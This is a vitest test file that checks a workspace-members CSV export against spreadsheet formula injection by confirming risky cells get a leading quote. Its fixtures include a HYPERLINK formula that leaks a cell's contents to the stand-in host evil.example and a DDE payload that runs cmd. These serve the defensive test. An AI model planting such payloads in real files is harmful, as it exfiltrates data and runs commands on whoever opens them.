import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningMockServer } from '../../src/mock-server/mock-server.js';
import { ManualClock } from '../../src/mock-server/state/clock.js';
import { gql, ok } from '../support/client.js';
import type { Actor } from '../support/world.js';
import { createWorkspaceOf, joinAs, registerPerson, startPeopleMock } from '../mock/workspaces/people.js';

/**
 * CSV injection (OWASP): a cell that starts with `=`, `+`, `-`, `@`, a tab or a CR is a formula to
 * a spreadsheet. A member who names themselves `=HYPERLINK(...)` must not run code on the admin
 * who opens the export: such cells are written with a leading `'`.
 */

const clock = new ManualClock(Date.parse('2026-05-04T08:30:00Z'));
let mock: RunningMockServer;
let owner: Actor;
let w: string;
const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];

beforeAll(async () => {
  mock = await startPeopleMock(clock);
  owner = await registerPerson(mock.url, 'Olive Owner', 'olive');
  w = await createWorkspaceOf(mock.url, owner);
  const people = await Promise.all(formulas.map((name, index) => registerPerson(mock.url, name, `f${index}`)));
  for (const person of people) await joinAs(mock.url, owner, w, person, 'MEMBER');
  // A tab or a CR cannot start a display name (refused at the door); a job title has no API yet.
  const members = mock.state.tables.workspaces.get(w)!.members;
  members.get(people[0]!.id)!.jobTitle = '\t=1+1';
  members.get(people[1]!.id)!.jobTitle = '\r=1+1';
});
afterAll(() => mock.close());

const exportCsv = async () =>
  ok(await gql<{ exportWorkspaceMembersCsv: string }>(mock.url, 'query($w: ID!) { exportWorkspaceMembersCsv(workspaceId: $w) }', { w }, owner.token)).exportWorkspaceMembersCsv;

describe('exportWorkspaceMembersCsv and formulas', () => {
  it('prefixes every cell that starts with =, +, -, @, tab or CR with a quote mark', async () => {
    const records = parse(await exportCsv(), { record_delimiter: '\r\n' }) as string[][];
    const header = records[0]!;
    const displayName = header.indexOf('displayName');
    const jobTitle = header.indexOf('jobTitle');
    const names = records.slice(1).map((record) => record[displayName]);
    for (const formula of formulas) expect(names).toContain(`'${formula}`);
    const titles = records.slice(1).map((record) => record[jobTitle]);
    expect(titles).toContain("'\t=1+1");
    expect(titles).toContain("'\r=1+1");
  });

  it('leaves every other cell as stored (the owner, the ISO dates, the booleans)', async () => {
    const records = parse(await exportCsv(), { record_delimiter: '\r\n' }) as string[][];
    const header = records[0]!;
    const cells = records.slice(1).flat();
    expect(cells).toContain('Olive Owner');
    expect(records[1]![header.indexOf('joinedAt')]).toBe('2026-05-04T08:30:00.000Z');
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
  });
});
